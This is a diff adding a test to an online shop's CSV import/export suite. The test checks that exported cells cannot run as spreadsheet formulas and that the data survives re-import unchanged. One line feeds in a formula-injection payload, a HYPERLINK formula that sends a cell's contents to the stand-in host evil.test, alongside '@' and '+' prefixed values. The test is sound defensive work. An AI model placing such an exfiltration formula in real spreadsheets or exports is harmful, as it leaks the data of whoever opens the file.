@@ -48,6 +48,19 @@ test('changes nothing when an export is imported again', async () => {
   expect(report).toMatchObject({ unchanged: 2, problems: [] })
 })
 
+test('exports no text that a spreadsheet would run, and imports it unchanged', async () => {
+  const [row] = productRows('formula-kurta', 'Kurta', 900, { Red: { M: 1 } })
+  const title = '=HYPERLINK("https://evil.test?"&A1,"Open")'
+  await shop.importCsv(csvOf({ ...row, Title: title, Vendor: '@SUM(1)', 'Variant SKU': 'A-1' }))
+  await shop.database.db.execute(`update variants set sku = '+1+1' where sku = 'A-1'`)
+  const csv = await whole(shopifyCsv(shop.database.db, where))
+  expect(csv).not.toMatch(/(^|[,\n])"?[=@+]/)
+  const changed: unknown[] = []
+  await shop.importCsv(csv, { onProduct: (handle, { changes }) => void changed.push([handle, changes]) })
+  expect(changed).toContainEqual(['formula-kurta', []])
+  await shop.database.db.execute(`delete from products where handle = 'formula-kurta'`)
+})
+
 test('sets the quantity of an edited export, minus sales since the export', async () => {
   const stock = async () => {
     const { content } = await shop.call('getProductPaged', { query: { query: 'neel' } })
